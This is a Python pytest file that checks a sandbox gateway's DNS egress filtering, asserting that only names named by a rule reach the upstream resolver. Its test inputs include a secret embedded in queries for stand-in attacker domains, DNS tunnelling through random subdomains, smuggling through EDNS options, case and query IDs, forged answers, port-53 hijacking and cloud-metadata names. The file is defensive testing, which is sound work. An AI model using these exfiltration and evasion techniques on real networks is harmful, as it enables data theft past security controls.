"""Promise *dns*: only names that a rule names are ever forwarded to a resolver.

What a resolver was asked is counted there; the far side's word is what counts. The answers that
the server sees are checked besides.
"""

from __future__ import annotations

import secrets
import struct
from typing import TYPE_CHECKING

import dns.edns
import dns.flags
import dns.message
import dns.rrset
import pytest

from tests.hostile.egress.pods import RESOLVER, addresses_of, ask, code_of, send_query
from tests.hostile.egress.world import API, DB, STRANGER
from tests.hostile.wire import wait_until
from tests.lab.dns import Zone, open_dns

if TYPE_CHECKING:
    from collections.abc import Generator

    from tests.hostile.egress.pods import Exposed, Launchpad, Pod
    from tests.hostile.egress.world import World

pytestmark = [pytest.mark.claim("dns"), pytest.mark.timeout(420)]

SECRET = secrets.token_hex(24)
FOREIGN = {
    "a_name_no_rule_names": "evil.example.net",
    "a_secret_below_a_foreign_name": f"{SECRET}.evil.example.net",
    "a_secret_below_a_named_host": f"{SECRET}.db.example.com",
    "the_parent_of_a_named_host": "example.com",
    "a_sibling": "other.example.com",
    "the_apex_of_a_wildcard": "wild.example.com",
    "a_name_that_ends_alike": "evildb.example.com",
    "a_name_that_begins_alike": "db.example.com.evil.example.net",
    "a_wildcard_written_out": "*.evil.example.net",
    "a_service_name": "_ldap._tcp.example.net",
    "a_reverse_name": "66.100.51.198.in-addr.arpa",
    "a_punycode_name": "xn--exmple-cua.com",
    "the_root": ".",
    "a_top_level_domain": "com",
    "a_very_long_name": ".".join(["a" * 62, "b" * 62, "c" * 62, "d" * 40, "net"]),
    "many_labels": ".".join(["x"] * 120),
    "a_local_name": "sandbox",
    "the_host_of_desktop_engines": "host.docker.internal",
    "the_gateway_of_desktop_engines": "gateway.docker.internal",
    "a_metadata_name": "metadata.google.internal",
}


@pytest.mark.parametrize("protocol", ["udp", "tcp"])
@pytest.mark.parametrize("name", FOREIGN.values(), ids=FOREIGN)
def test_resolver_never_hears_of(world: World, pod: Pod, name: str, protocol: str) -> None:
    world.settle(pod)
    before = len(world.zone.asked)
    with world.nothing_leaves(pod):
        assert code_of(ask(pod, name, protocol=protocol)) == "NXDOMAIN"
    assert set(world.zone.names()[before:]) <= {"db.example.com"}
    assert not any(SECRET.encode() in each.wire for each in world.zone.asked)


@pytest.mark.claim("dns", twin=True)
def test_libraries_of_the_image_find_named_hosts_alone(
    world: World, pod: Pod, exposed: Exposed
) -> None:
    assert pod.do("names.lookup", name="db.example.com").value == [DB]
    assert pod.do("names.lookup", name="evil.example.net").error == "EAI_NONAME"
    before = len(world.zone.asked)
    assert exposed.do("names.lookup", name="evil.example.net").value == [STRANGER]
    assert "evil.example.net" in world.zone.names()[before:]


def test_a_denied_name_is_recorded(pod: Pod) -> None:
    name = f"{secrets.token_hex(4)}.evil.example.net"
    ask(pod, name)
    event = pod.wait_event(layer="dns", name=name)
    assert (event["reason"], event["query_type"]) == ("no rule names it", "A")


TYPES = [
    *("TXT", "NULL", "MX", "SRV", "PTR", "NS", "SOA", "CNAME", "HTTPS", "SVCB", "NAPTR", "ANY"),
    *("CAA", "TLSA", "SSHFP", "DNSKEY", "DS", "LOC", "OPENPGPKEY", "TYPE65399"),
]


@pytest.mark.parametrize("kind", TYPES)
def test_record_types_beside_addresses_carry_nothing(
    world: World, pod: Pod, exposed: Exposed, kind: str
) -> None:
    world.settle(pod)
    before = len(world.zone.asked)
    answer = ask(pod, "db.example.com", kind)
    assert not isinstance(answer, str)
    assert (code_of(answer), answer.answer, answer.authority) == ("NOERROR", [], [])
    foreign = code_of(ask(pod, f"{SECRET}.evil.example.net", kind))
    assert foreign == "NXDOMAIN"
    world.settle(pod)
    assert {each.kind for each in world.zone.asked[before:]} <= {"A"}
    before = len(world.zone.asked)
    ask(exposed, "db.example.com", kind)
    assert [each.kind for each in world.zone.asked[before:]] == [kind]


@pytest.mark.parametrize("kind", ["AXFR", "IXFR"])
def test_zones_are_not_transferred(world: World, pod: Pod, kind: str) -> None:
    world.settle(pod)
    before = len(world.zone.asked)
    assert code_of(ask(pod, "db.example.com", kind, protocol="tcp")) == "NOTIMP"
    assert len(world.zone.asked) == before


@pytest.mark.parametrize("protocol", ["udp", "tcp"])
def test_another_resolver_is_this_one(
    world: World, pod: Pod, exposed: Exposed, protocol: str
) -> None:
    """A query to any server's port 53 never gets there; the gateway answers it."""
    with world.nothing_leaves(pod):
        for server in (STRANGER, "198.51.100.99", "127.0.0.53"):
            foreign = ask(pod, "evil.example.net", server=server, protocol=protocol)
            assert code_of(foreign) == "NXDOMAIN"
            known = ask(pod, "db.example.com", server=server, protocol=protocol)
            assert addresses_of(known) == {DB}
    exposed.wire.clear()
    assert exposed.exchange(protocol, STRANGER, 53).text == "echo hello"
    exposed.wire.wait(STRANGER, protocol, 53)


def test_what_is_sent_to_port_53_of_anybody_stays_here(world: World, pod: Pod) -> None:
    with world.nothing_leaves(pod):
        for protocol in ("udp", "tcp"):
            assert pod.exchange(protocol, STRANGER, 53, timeout=1.0).error is not None


@pytest.mark.parametrize(
    ("protocol", "port"), [("tcp", 853), ("udp", 853), ("udp", 5353), ("tcp", 5353)]
)
def test_other_ports_of_resolvers_are_shut(
    world: World, pod: Pod, wide: Pod, protocol: str, port: int
) -> None:
    with world.nothing_leaves(pod):
        for server in (RESOLVER, STRANGER, DB):
            error = ask(pod, "db.example.com", server=server, port=port, protocol=protocol)
            assert error in {"ECONNREFUSED", "EPERM", "EACCES", "EHOSTUNREACH"}
    assert wide.exchange(protocol, STRANGER, port).text == "echo hello"


def test_a_resolver_on_another_port_answers_the_gateway_alone(
    world: World, launchpad: Launchpad
) -> None:
    zone = Zone()
    zone.add("db.example.com", DB)
    zone.add("evil.example.net", STRANGER)
    rules, place = ["db.example.com:5432/tcp"], (RESOLVER, 5300)
    with (
        open_dns(world.internet.namespace, RESOLVER, zone, 5300),
        launchpad.open(rules, policy={"dns": (f"{RESOLVER}:5300",)}) as other,
        world.nothing_leaves(other, place),
    ):
        assert set(zone.names()) == {"db.example.com"}
        for protocol in ("udp", "tcp"):
            error = ask(other, "evil.example.net", port=5300, protocol=protocol)
            assert error in {"ECONNREFUSED", "EPERM"}
        for source in (20000, 24095):
            assert other.exchange("udp", *place, source_port=source).error == "EPERM"
    assert set(zone.names()) == {"db.example.com"}


def test_dns_over_https_of_a_foreign_resolver_is_out_of_reach(
    world: World, pod: Pod, exposed: Exposed
) -> None:
    query = "https://evil.example.net/dns-query?dns=AAABAAABAAAAAAAAA3d3dwdleGFtcGxlA2NvbQAAAQAB"
    requests = len(world.stranger.requests)
    with world.nothing_leaves(pod):
        assert "Name or service not known" in pod.do("web.fetch_failing", url=query).text
    assert len(world.stranger.requests) == requests
    assert exposed.do("web.fetch", url=query).table["status"] == 200
    assert len(world.stranger.requests) == requests + 1


def test_the_embedded_resolver_of_engines_is_shut(world: World, pod: Pod) -> None:
    with world.nothing_leaves(pod):
        for port in (40000, 45678, 53535):
            error = pod.exchange("udp", "127.0.0.11", port).error
            assert error in {"ECONNREFUSED", "EPERM", "EACCES", "EHOSTUNREACH"}
            assert pod.exchange("tcp", "127.0.0.11", port).error in {"ECONNREFUSED", "EPERM"}
        pod.wait_event(reason="embedded")
        assert code_of(ask(pod, "evil.example.net", server="127.0.0.11")) == "NXDOMAIN"
    assert addresses_of(ask(pod, "db.example.com", server="127.0.0.11")) == {DB}


def test_letter_case_is_folded_for_the_rule_and_kept_in_the_answer(world: World, pod: Pod) -> None:
    answer = ask(pod, "dB.ExAmPlE.cOm")
    assert addresses_of(answer) == {DB}
    assert not isinstance(answer, str)
    assert answer.question[0].name.to_text() == "dB.ExAmPlE.cOm."
    before = len(world.zone.asked)
    assert code_of(ask(pod, "eViL.eXaMpLe.NeT")) == "NXDOMAIN"
    assert len(world.zone.asked) == before


def test_letter_case_carries_no_message_out(world: World, pod: Pod) -> None:
    """The case of a name is a channel of one bit a letter; upstream sees the gateway's own."""
    world.zone.add("a.wild.example.com")
    wires: list[bytes] = []
    names = [f"{number}.wild.example.com" for number in range(3)]
    for name in names:
        world.zone.add(name, API)
        assert addresses_of(ask(pod, name.upper())) == {API}
        wires += [each.wire for each in world.zone.asked if each.name == name]
    shouted = [name.upper().encode() for name in names]
    labels = [b"\4WILD\7EXAMPLE\3COM" in wire for wire in wires]
    assert len(wires) == len(shouted)
    assert not all(labels)


@pytest.mark.claim("dns", twin=True)
def test_a_trailing_dot_is_the_same_name(pod: Pod) -> None:
    assert pod.do("names.lookup", name="db.example.com.").value == [DB]
    assert pod.do("names.lookup", name="evil.example.net.").error == "EAI_NONAME"


def test_no_search_list_makes_other_names(world: World, pod: Pod) -> None:
    resolv = pod.do("read", path="/etc/resolv.conf").text
    lines = [line.split() for line in resolv.splitlines() if not line.startswith("#")]
    assert [
        line for line in lines if line[:1] in (["search"], ["domain"]) and line[1:] != ["."]
    ] == []
    assert ["options", "ndots:1"] in lines
    world.settle(pod)
    before = len(world.zone.asked)
    assert pod.do("names.lookup", name="api").error == "EAI_NONAME"
    assert pod.do("names.lookup", name="missing.wild.example.com").error == "EAI_NONAME"
    assert set(world.zone.names()[before:]) == {"missing.wild.example.com"}


def query(name: bytes, *, kind: int = 1, klass: int = 1, head: tuple[int, ...] = ()) -> bytes:
    """A query with a name in wire form, and a header of one's own."""
    return (
        struct.pack("!6H", *(head or (7, 0x0100, 1, 0, 0, 0)))
        + name
        + struct.pack("!HH", kind, klass)
    )


GOOD = b"\2db\7example\3com\0"
MALFORMED = {
    "a_nul_in_a_label": (query(b"\7evil\0db\7example\3com\0"), "FORMERR"),
    "a_dot_in_a_label": (query(b"\12db.example\3com\0"), "FORMERR"),
    "a_space_in_a_label": (query(b"\3d b\7example\3com\0"), "FORMERR"),
    "a_backslash_in_a_label": (query(b"\3d\\b\7example\3com\0"), "FORMERR"),
    "high_bytes_in_a_label": (query(b"\3d\xffb\7example\3com\0"), "FORMERR"),
    "a_newline_in_a_label": (query(b"\3d\nb\7example\3com\0"), "FORMERR"),
    "a_compression_loop": (query(b"\xc0\x0c"), "FORMERR"),
    "a_pointer_to_the_end": (query(b"\2db\xc0\xff"), "FORMERR"),
    "a_label_of_64": (query(b"\x40" + b"a" * 64 + b"\0"), "FORMERR"),
    "a_name_of_300": (query(b"".join(b"\x3b" + b"a" * 59 for _ in range(5)) + b"\0"), "FORMERR"),
    "a_name_cut_off": (query(GOOD)[:20], "FORMERR"),
    "two_questions": (
        query(GOOD, head=(7, 0x0100, 2, 0, 0, 0)) + b"\4evil\7example\3net\0\0\1\0\1",
        "FORMERR",
    ),
    "no_question": (struct.pack("!6H", 7, 0x0100, 0, 0, 0, 0), "FORMERR"),
    "an_answer_section": (query(GOOD, head=(7, 0x0100, 1, 1, 0, 0)) + b"\xc0\x0c", "FORMERR"),
    "bytes_behind": (query(GOOD) + SECRET.encode(), "FORMERR"),
    "an_update": (query(GOOD, head=(7, 0x2900, 1, 0, 0, 0)), "NOTIMP"),
    "a_notify": (query(GOOD, head=(7, 0x2100, 1, 0, 0, 0)), "NOTIMP"),
    "the_class_chaos": (query(b"\7version\4bind\0", kind=16, klass=3), "NOTIMP"),
    "the_class_any": (query(GOOD, klass=255), "NOTIMP"),
}


@pytest.mark.parametrize("protocol", ["udp", "tcp"])
@pytest.mark.parametrize("case", MALFORMED.values(), ids=MALFORMED)
def test_malformed_question_goes_nowhere(
    world: World, pod: Pod, case: tuple[bytes, str], protocol: str
) -> None:
    wire, code = case
    world.settle(pod)
    before = len(world.zone.asked)
    assert code_of(send_query(pod, wire, protocol=protocol)) == code
    assert len(world.zone.asked) == before
    assert addresses_of(send_query(pod, query(GOOD), protocol=protocol)) == {DB}


def test_a_response_and_a_fragment_of_a_header_are_not_answered(pod: Pod) -> None:
    answer = dns.message.make_response(dns.message.make_query("db.example.com", "A"))
    for wire in (answer.to_wire(), b"\0" * 5):
        assert send_query(pod, wire, timeout=0.5) == "TIMEOUT"
    assert addresses_of(ask(pod, "db.example.com")) == {DB}


def test_options_of_a_query_never_leave(world: World, pod: Pod, exposed: Exposed) -> None:
    def make(name: str) -> bytes:
        message = dns.message.make_query(name, "A", use_edns=True, payload=4096)
        options: list[dns.edns.Option] = [
            dns.edns.CookieOption(SECRET.encode()[:8], b""),
            dns.edns.GenericOption(dns.edns.OptionType.make(65001), SECRET.encode()),
            dns.edns.ECSOption("198.51.100.66", 32),
        ]
        message.use_edns(0, payload=4096, options=options)
        return message.to_wire()

    world.zone.add("edns.wild.example.com", API)
    before = len(world.zone.asked)
    assert addresses_of(send_query(pod, make("edns.wild.example.com"))) == {API}
    (asked,) = world.zone.asked[before:]
    received = dns.message.from_wire(asked.wire)
    assert (len(received.options), received.payload) == (0, 1232)  # pyright: ignore[reportUnknownMemberType, reportUnknownArgumentType]
    assert SECRET.encode() not in asked.wire
    send_query(exposed, make("edns.wild.example.com"))
    assert SECRET.encode() in world.zone.asked[-1].wire


def test_an_unknown_edns_version_is_refused(world: World, pod: Pod) -> None:
    message = dns.message.make_query("db.example.com", "A", use_edns=True)
    wire = bytearray(message.to_wire())
    wire[-5] = 9  # the version
    world.settle(pod)
    before = len(world.zone.asked)
    assert code_of(send_query(pod, bytes(wire))) == "BADVERS"
    assert len(world.zone.asked) == before


def test_ids_and_flags_of_a_query_never_leave(world: World, pod: Pod) -> None:
    """The id is sixteen bits of a channel, the unused flags a few more."""
    ids: list[int] = []
    for number in range(4):
        name = f"id{number}.wild.example.com"
        world.zone.add(name, API)
        labels = b"".join(bytes((len(x),)) + x.encode() for x in name.split(".")) + b"\0"
        wire = query(labels, head=(0x5EC2, 0x0170, 1, 0, 0, 0))
        assert addresses_of(send_query(pod, wire)) == {API}
        asked = dns.message.from_wire(world.zone.asked[-1].wire)
        assert asked.question[0].name.to_text().lower() == f"{name}."
        assert asked.flags & ~(dns.flags.RD | dns.flags.AD) == 0
        ids.append(asked.id)
    assert ids != [0x5EC2] * 4


def test_a_tunnel_below_a_wildcard_runs_dry(world: World, launchpad: Launchpad) -> None:
    names = [f"{secrets.token_hex(16)}.wild.example.com" for _ in range(300)]
    with launchpad.open(["*.wild.example.com", "db.example.com:5432/tcp"]) as pod:
        before = len(world.zone.asked)
        outcomes = pod.do("names.look_up_many", names=names, within=60).table
        forwarded = {n for n in world.zone.names()[before:] if n.endswith(".wild.example.com")}
        assert 50 <= len(forwarded) <= 130
        assert outcomes.keys() == {"EAI_NONAME", "failed"}
        pod.wait_event(matches=lambda each: "too many different names" in each["reason"])
        # It has used up its own budget of lookups for a moment, and nobody else's.
        wait_until(lambda: pod.do("names.lookup", name="db.example.com").value, 10, "a lookup")
        world.settle(pod)


@pytest.fixture
def fresh(world: World, launchpad: Launchpad) -> Generator[Pod, None, None]:
    """A pod that has looked nothing up yet."""
    rules = ["db.example.com:5432/tcp", "*.fresh.example.com:5432/tcp"]
    with launchpad.open(rules) as made:
        yield made
        world.zone.answer = None


def chain(world: World, name: str, length: int, address: str = STRANGER) -> None:
    """Aliases that lead from a name to an address."""
    owner = name
    for number in range(length):
        target = f"alias{number}.{name.replace('.', '-')}.example.net"
        world.zone.records[owner, "CNAME"] = [f"{target}."]
        owner = target
    world.zone.add(owner, address)


def test_an_alias_chain_is_followed_within_one_answer_and_bounded(world: World, fresh: Pod) -> None:
    chain(world, "eight.fresh.example.com", 8)
    chain(world, "nine.fresh.example.com", 9)
    before = len(world.zone.asked)
    assert addresses_of(ask(fresh, "eight.fresh.example.com")) == {STRANGER}
    assert code_of(ask(fresh, "nine.fresh.example.com")) == "SERVFAIL"
    assert set(world.zone.names()[before:]) == {
        "eight.fresh.example.com",
        "nine.fresh.example.com",
    }
    event = fresh.wait_event("dns", name="eight.fresh.example.com")
    assert len(event["aliases"]) == 8


def test_an_alias_loop_is_no_answer(world: World, fresh: Pod) -> None:
    world.zone.records["loop.fresh.example.com", "CNAME"] = ["pool.fresh.example.com."]
    world.zone.records["pool.fresh.example.com", "CNAME"] = ["loop.fresh.example.com."]
    world.zone.records["self.fresh.example.com", "CNAME"] = ["self.fresh.example.com."]
    with world.nothing_leaves(fresh):
        assert code_of(ask(fresh, "loop.fresh.example.com")) == "SERVFAIL"
        assert code_of(ask(fresh, "self.fresh.example.com")) == "SERVFAIL"


def test_an_alias_gives_its_own_name_no_right(world: World, fresh: Pod) -> None:
    chain(world, "one.fresh.example.com", 1)
    assert addresses_of(ask(fresh, "one.fresh.example.com")) == {STRANGER}
    assert fresh.exchange("tcp", STRANGER, 5432).text == "echo hello"
    assert code_of(ask(fresh, "alias0.one-fresh-example-com.example.net")) == "NXDOMAIN"


def test_records_of_other_owners_open_nothing(world: World, fresh: Pod) -> None:
    def answer(query: dns.message.Message, protocol: str) -> bytes:
        del protocol
        response = world.zone.build(query)
        for owner, section in (
            ("evil.example.net.", response.answer),
            ("glue.fresh.example.com.", response.additional),
            ("fresh.example.com.", response.authority),
        ):
            section.append(dns.rrset.from_text(owner, 300, "IN", "A", STRANGER))
        return response.to_wire()

    world.zone.add("owner.fresh.example.com", DB)
    world.zone.answer = answer
    with world.nothing_leaves(fresh):
        assert addresses_of(ask(fresh, "owner.fresh.example.com")) == {DB}
        assert fresh.exchange("tcp", STRANGER, 5432).error == "ECONNREFUSED"
    assert fresh.exchange("tcp", DB, 5432).text == "echo hello"


def test_a_hundred_addresses_are_cut_to_those_that_are_open(world: World, fresh: Pod) -> None:
    def answer(query: dns.message.Message, protocol: str) -> bytes:
        response = world.zone.build(query)
        if protocol == "udp":
            response.flags |= dns.flags.TC
            response.answer = []
        return response.to_wire(max_size=65535)

    many = [f"198.51.100.{number}" for number in range(100, 200)]
    world.zone.add("many.fresh.example.com", *many)
    world.zone.answer = answer
    # Too long for a datagram.
    shown = addresses_of(ask(fresh, "many.fresh.example.com", protocol="tcp"))
    world.zone.answer = None
    assert len(shown) == 32
    assert shown < set(many)
    first, other = min(shown), min(set(many) - shown)
    with world.nothing_leaves(fresh, *((each, 5432) for each in shown)):
        assert fresh.exchange("tcp", first, 5432).error == "ECONNREFUSED"  # nobody is there
        assert fresh.exchange("tcp", other, 5432).error == "ECONNREFUSED"
    fresh.wait_event(address=other, layer="packet")
    assert not any(each["address"] == first for each in fresh.events())


def test_a_time_to_live_of_zero_leaves_the_address_open_long_enough(
    world: World, fresh: Pod
) -> None:
    world.zone.add("brief.fresh.example.com", DB)
    ttl, world.zone.ttl = world.zone.ttl, 0
    try:
        answer = ask(fresh, "brief.fresh.example.com")
        before = len(world.zone.asked)
        ask(fresh, "brief.fresh.example.com")
    finally:
        world.zone.ttl = ttl
    assert not isinstance(answer, str)
    assert answer.answer[0].ttl == 0
    assert len(world.zone.asked) == before + 1  # served by nobody's cache
    assert fresh.exchange("tcp", DB, 5432).text == "echo hello"


def test_an_enormous_time_to_live_is_cut(world: World, fresh: Pod) -> None:
    world.zone.add("forever.fresh.example.com", DB)
    ttl, world.zone.ttl = world.zone.ttl, 0x7FFF_FFFF
    try:
        answer = ask(fresh, "forever.fresh.example.com")
    finally:
        world.zone.ttl = ttl
    assert not isinstance(answer, str)
    assert 0 < answer.answer[0].ttl <= 3600


@pytest.mark.claim("dns", twin=True)
def test_a_truncated_answer_is_fetched_over_tcp(world: World, fresh: Pod) -> None:
    def answer(query: dns.message.Message, protocol: str) -> bytes:
        response = world.zone.build(query)
        if protocol == "udp":
            response.flags |= dns.flags.TC
            response.answer = [dns.rrset.from_text("evil.example.net.", 1, "IN", "A", STRANGER)]
        return response.to_wire()

    world.zone.add("cut.fresh.example.com", DB)
    world.zone.answer = answer
    assert addresses_of(ask(fresh, "cut.fresh.example.com")) == {DB}
    assert world.zone.asked[-1].protocol == "tcp"


def test_answers_to_another_question_are_not_believed(world: World, fresh: Pod) -> None:
    def answer(query: dns.message.Message, protocol: str) -> bytes:
        del protocol
        other = dns.message.make_query("evil.example.net", "A", id=query.id)
        return world.zone.build(other).to_wire()

    world.zone.answer = answer
    with world.nothing_leaves_unasked(fresh):
        assert code_of(ask(fresh, "db.example.com", timeout=15)) == "SERVFAIL"
        assert fresh.exchange("tcp", STRANGER, 5432).error == "ECONNREFUSED"
    world.zone.answer = None
    assert addresses_of(ask(fresh, "db.example.com")) == {DB}


def test_forged_answers_from_within_are_not_believed(world: World, fresh: Pod) -> None:
    """65,536 answers with every id, sent to the very port that the question went out by."""
    world.zone.answer = lambda _query, _protocol: None
    report = fresh.do(
        "names.forge",
        name="db.example.com",
        address=STRANGER,
        own=fresh.address,
        within=60,
    ).table
    assert report["ports"], "the question was never seen"
    assert STRANGER not in str(report["outcome"])
    world.zone.answer = None
    fresh.wait_event(reason="injection")
    with world.nothing_leaves(fresh):
        assert fresh.exchange("tcp", STRANGER, 5432).error == "ECONNREFUSED"
    assert fresh.do("names.lookup", name="db.example.com").value == [DB]


@pytest.mark.parametrize("address", ["0.0.0.0", "127.0.0.1", "127.0.0.53"])  # noqa: S104
def test_port_53_taken_by_the_server_hears_nothing(world: World, pod: Pod, address: str) -> None:
    outcome = pod.do("names.steal", port=53, address=address)
    assert outcome.error in {None, "EACCES", "EADDRINUSE"}
    for server in ("127.0.0.1", RESOLVER):
        assert addresses_of(ask(pod, "db.example.com", server=server)) == {DB}
    if outcome.error is None:
        assert pod.do("names.heard").error == "TIMEOUT"
    world.settle(pod)


def test_the_port_of_the_gateways_resolver_cannot_be_taken(pod: Pod) -> None:
    (port,) = {
        int(line.split()[1].split(":")[1], 16)
        for line in pod.do("read", path="/proc/net/udp").text.splitlines()[1:]
        if line.split()[1].startswith("0100007F:") and line.split()[7] == "0"
    }
    assert pod.do("names.steal", port=port, address="127.0.0.1").error == "EADDRINUSE"
    assert pod.do("names.steal", port=port, address="0.0.0.0").error == "EADDRINUSE"  # noqa: S104
    direct = ask(pod, "evil.example.net", server="127.0.0.1", port=port)
    assert code_of(direct) == "NXDOMAIN"
    assert addresses_of(ask(pod, "db.example.com", server="127.0.0.1", port=port)) == {DB}
